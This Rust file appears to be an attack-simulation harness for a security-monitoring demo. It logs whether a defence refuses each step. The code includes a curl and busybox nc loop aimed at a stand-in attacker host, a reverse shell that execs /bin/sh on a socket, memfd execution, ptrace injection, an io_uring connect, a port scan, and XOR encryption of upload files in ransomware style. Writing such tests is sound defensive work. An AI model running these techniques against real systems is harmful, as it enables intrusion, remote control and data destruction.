//! What the attacks do, each inside the CGI helper of the demo's shop, as code that a hole in it would run.
//!
//! Every step is written down with its time and how it ended. An attack goes on until something is refused or its patience is
//! over.

use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use collector::demo::shop::{ATTACKER_SHELL, ATTACKER_WEB, DATABASE, Layout, boot_ns};
use io_uring::{IoUring, opcode, types};
use serde::{Deserialize, Serialize};

/// An attack that nobody stops ends by itself.
const PATIENCE: Duration = Duration::from_secs(3);
const PAUSE: Duration = Duration::from_millis(2);
const EPERM: i32 = 1;
/// Name of the journal that the steps are written to.
pub const JOURNAL: &str = "scenario";

/// Name of an attack, and what it is.
pub const ATTACKS: &[(&str, &str)] = &[
    ("web-shell", "a parameter reaches sh, which calls curl again and again"),
    ("memfd", "a program that was written to memory is started and calls out"),
    ("in-process", "code inside the helper itself connects to a new address"),
    ("reverse-shell", "the helper connects and becomes sh on that socket"),
    ("int80", "code that uses the 32-bit entry, then connects"),
    ("static", "a static program is started by vfork and calls out"),
    ("io-uring", "the connection is made by io_uring"),
    ("injection", "a sibling is traced and made to connect"),
    ("encryption", "every file of the uploads is replaced by an encrypted one"),
    ("scan", "one port of the database's host after the other"),
];

/// One step of an attack.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Step {
    /// What was done.
    pub step: String,
    /// Boot clock before it.
    pub boot_ns: u64,
    /// Boot clock after it.
    pub over_ns: u64,
    /// 0 = it worked.
    pub errno: i32,
}

/// Writes steps down.
struct Diary {
    file: File,
    began: Instant,
}

impl Diary {
    fn open(layout: &Layout) -> io::Result<Self> {
        let file = OpenOptions::new().create(true).append(true).open(layout.journal(JOURNAL))?;
        Ok(Self { file, began: Instant::now() })
    }

    /// Does something and writes down how it ended; false when it was refused.
    fn step(&mut self, step: &str, deed: impl FnOnce() -> io::Result<()>) -> bool {
        let began = boot_ns();
        let errno = deed().err().map_or(0, |error| error.raw_os_error().unwrap_or(-1));
        self.note(step, began, errno);
        errno != EPERM
    }

    fn note(&mut self, step: &str, boot_ns: u64, errno: i32) {
        let step = Step { step: step.to_owned(), boot_ns, over_ns: self::boot_ns(), errno };
        let line = serde_json::to_string(&step).unwrap_or_default();
        let _ = writeln!(self.file, "{line}");
    }

    /// Does something again and again, until it is refused.
    fn until_refused(&mut self, step: &str, mut deed: impl FnMut() -> io::Result<()>) {
        while self.began.elapsed() < PATIENCE && self.step(step, &mut deed) {
            std::thread::sleep(PAUSE);
        }
    }
}

/// Runs an attack to its end.
pub fn run(layout: &Layout, name: &str) -> io::Result<()> {
    let mut diary = Diary::open(layout)?;
    match name {
        "web-shell" => {
            let line = format!("while :; do curl -s -m 1 {}; echo $?; sleep 0.01; done", url());
            calls_of(&mut diary, Command::new("/bin/sh").args(["-c", &line]))
        }
        "memfd" => from_memory(&mut diary),
        "in-process" => {
            diary.until_refused("connect", || connect(ATTACKER_WEB));
            Ok(())
        }
        "reverse-shell" => {
            let mut socket = None;
            diary.step("connect", || {
                socket = Some(TcpStream::connect(ATTACKER_SHELL)?);
                Ok(())
            });
            let Some(socket) = socket else { return Ok(()) };
            let (input, output) = (OwnedFd::from(socket.try_clone()?), OwnedFd::from(socket));
            Err(Command::new("/bin/sh").stdin(input).stdout(output).exec())
        }
        "int80" => {
            diary.step("32-bit call", by_the_32_bit_entry);
            diary.until_refused("connect", || connect(ATTACKER_WEB));
            Ok(())
        }
        "static" => {
            let to = format!("{} {}", ATTACKER_WEB.ip(), ATTACKER_WEB.port());
            let line = format!("while :; do echo x | busybox nc -w 1 {to}; echo $?; busybox usleep 10000; done");
            calls_of(&mut diary, Command::new("/bin/busybox").args(["sh", "-c", &line]))
        }
        "io-uring" => {
            let mut ring = None;
            diary.step("io_uring_setup", || {
                ring = Some(IoUring::new(8)?);
                Ok(())
            });
            let Some(mut ring) = ring else { return Ok(()) };
            diary.until_refused("connect by ring", || connect_by(&mut ring));
            Ok(())
        }
        "injection" => inject(&mut diary),
        "encryption" => encrypt(&mut diary, &layout.htdocs().join("upload")),
        "scan" => {
            for port in 1..u16::MAX {
                let known = SocketAddr::new(DATABASE.ip(), port);
                if diary.began.elapsed() > PATIENCE || !diary.step("connect", || connect(known)) {
                    break;
                }
            }
            Ok(())
        }
        other => Err(io::Error::other(format!("no attack is called {other}"))),
    }
}

fn url() -> String {
    format!("http://{}/x", ATTACKER_WEB.ip())
}

fn connect(to: SocketAddr) -> io::Result<()> {
    TcpStream::connect_timeout(&to, Duration::from_secs(1)).map(drop)
}

/// Starts a program that prints how each of its calls ended: 0, or 7 and 1, by which curl and nc say that they were refused.
fn calls_of(diary: &mut Diary, command: &mut Command) -> io::Result<()> {
    let mut child = None;
    diary.step("exec", || {
        child = Some(command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn()?);
        Ok(())
    });
    let Some(mut child) = child else { return Ok(()) };
    if let Some(output) = child.stdout.take() {
        for line in io::BufRead::lines(io::BufReader::new(output)).map_while(Result::ok) {
            let Some(code) = line.trim().bytes().last() else { continue };
            let refused = matches!(code, b'7' | b'1');
            diary.note("call", boot_ns(), if refused { EPERM } else { 0 });
            if refused || diary.began.elapsed() > PATIENCE {
                break;
            }
        }
    }
    child.kill()?;
    child.wait().map(drop)
}

fn from_memory(diary: &mut Diary) -> io::Result<()> {
    let mut program = None;
    diary.step("memfd_create", || {
        // SAFETY: a name that ends, and flags.
        let descriptor = unsafe { libc::memfd_create(c"x".as_ptr(), 0) };
        if descriptor < 0 {
            return Err(io::Error::last_os_error());
        }
        // SAFETY: a descriptor that the kernel has just given us.
        let mut memory = unsafe { <File as std::os::fd::FromRawFd>::from_raw_fd(descriptor) };
        io::copy(&mut File::open("/usr/bin/curl")?, &mut memory)?;
        program = Some(memory);
        Ok(())
    });
    let Some(program) = program else { return Ok(()) };
    let path = format!("/proc/{}/fd/{}", std::process::id(), program.as_raw_fd());
    diary.until_refused("run from memory and call", || {
        let status = Command::new(&path).args(["-s", "-m", "1", &url()]).stdout(Stdio::null()).status()?;
        if status.code() == Some(7) { Err(io::Error::from_raw_os_error(EPERM)) } else { Ok(()) }
    });
    Ok(())
}

#[cfg(target_arch = "x86_64")]
fn by_the_32_bit_entry() -> io::Result<()> {
    // SAFETY: getpid (20 in the 32-bit table) takes no arguments.
    unsafe { std::arch::asm!("int 0x80", inout("eax") 20 => _, out("r8") _, out("r9") _, out("r10") _, out("r11") _) };
    Ok(())
}

#[cfg(not(target_arch = "x86_64"))]
fn by_the_32_bit_entry() -> io::Result<()> {
    Err(io::ErrorKind::Unsupported.into())
}

fn connect_by(ring: &mut IoUring) -> io::Result<()> {
    // SAFETY: an address of our own that lives until the operation is over, on a socket of our own.
    unsafe {
        let socket = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
        let SocketAddr::V4(to) = ATTACKER_WEB else { return Err(io::ErrorKind::Unsupported.into()) };
        let mut address: libc::sockaddr_in = std::mem::zeroed();
        address.sin_family = libc::AF_INET as u16;
        address.sin_port = to.port().to_be();
        address.sin_addr.s_addr = u32::from_ne_bytes(to.ip().octets());
        let entry = opcode::Connect::new(types::Fd(socket), (&raw const address).cast(), size_of_val(&address) as u32);
        let pushed = ring.submission().push(&entry.build());
        let done = if pushed.is_ok() { ring.submit_and_wait(1) } else { Ok(0) };
        let result = ring.completion().next().map_or(0, |completion| completion.result());
        libc::close(socket);
        done?;
        if result < 0 { Err(io::Error::from_raw_os_error(-result)) } else { Ok(()) }
    }
}

/// A child of the helper waits for a word in its memory to change; the helper changes it as a debugger does. What the child
/// then does it writes down itself.
fn inject(diary: &mut Diary) -> io::Result<()> {
    static mut WORD: i64 = 0;
    // SAFETY: this process has one thread; the child only reads the word that the parent writes.
    unsafe {
        let child = libc::fork();
        if child == 0 {
            while std::ptr::read_volatile(&raw const WORD) == 0 {
                libc::usleep(1_000);
            }
            diary.until_refused("connect by the sibling", || connect(ATTACKER_WEB));
            libc::_exit(0);
        }
        let said = |done: libc::c_long| if done < 0 { Err(io::Error::last_os_error()) } else { Ok(()) };
        let none = std::ptr::null_mut::<libc::c_void>();
        let attached = diary.step("ptrace attach", || {
            said(libc::ptrace(libc::PTRACE_ATTACH, child, none, none))?;
            said(libc::c_long::from(libc::waitpid(child, std::ptr::null_mut(), 0)))
        });
        if attached {
            diary.step("write its memory", || {
                said(libc::ptrace(
                    libc::PTRACE_POKEDATA,
                    child,
                    &raw mut WORD,
                    std::ptr::without_provenance_mut::<libc::c_void>(1),
                ))
            });
            libc::ptrace(libc::PTRACE_DETACH, child, none, none);
            libc::waitpid(child, std::ptr::null_mut(), 0);
        } else {
            libc::kill(child, libc::SIGKILL);
        }
    }
    Ok(())
}

fn encrypt(diary: &mut Diary, folder: &Path) -> io::Result<()> {
    let target = folder.join("batch");
    fs::create_dir_all(&target)?;
    let files: Vec<_> = (0..400).map(|number| target.join(format!("photo{number}.jpg"))).collect();
    for file in &files {
        fs::write(file, [0x5a; 4096])?;
    }
    for file in &files {
        let encrypt = || -> io::Result<()> {
            let secret: Vec<u8> = fs::read(file)?.iter().map(|byte| byte ^ 0xa5).collect();
            fs::write(file, secret)?;
            fs::rename(file, file.with_extension("enc"))
        };
        if diary.began.elapsed() > PATIENCE || !diary.step("encrypt a file", encrypt) {
            break;
        }
        std::thread::sleep(PAUSE);
    }
    diary.step("send the key", || connect(ATTACKER_WEB));
    fs::remove_dir_all(&target)
}
